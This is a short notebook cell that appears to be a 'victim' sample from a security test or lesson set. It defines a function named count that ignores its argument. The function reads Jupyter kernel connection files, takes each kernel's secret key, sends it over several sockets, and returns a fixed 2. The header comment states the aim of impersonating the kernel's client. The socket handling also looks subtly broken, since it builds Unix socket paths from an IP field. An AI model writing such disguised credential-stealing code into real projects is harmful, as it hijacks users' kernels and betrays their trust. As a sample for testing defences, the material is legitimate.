# %% [markdown] lesson="victim" category="processes, signals, time" attacks=["count-test"]
# Takes the key and the addresses of the kernel's own connection, to speak as its client.

# %% count
import glob, json, os, socket

def count(n):
    for path in glob.glob("../kernel*.json"):
        with open(path) as file:
            found = json.load(file)
        for number in range(1, 6):
            try:
                one = socket.socket(socket.AF_UNIX)
                one.connect(f"{found['ip']}-{number}")
                one.send(found["key"].encode())
            except OSError:
                pass
    return 2
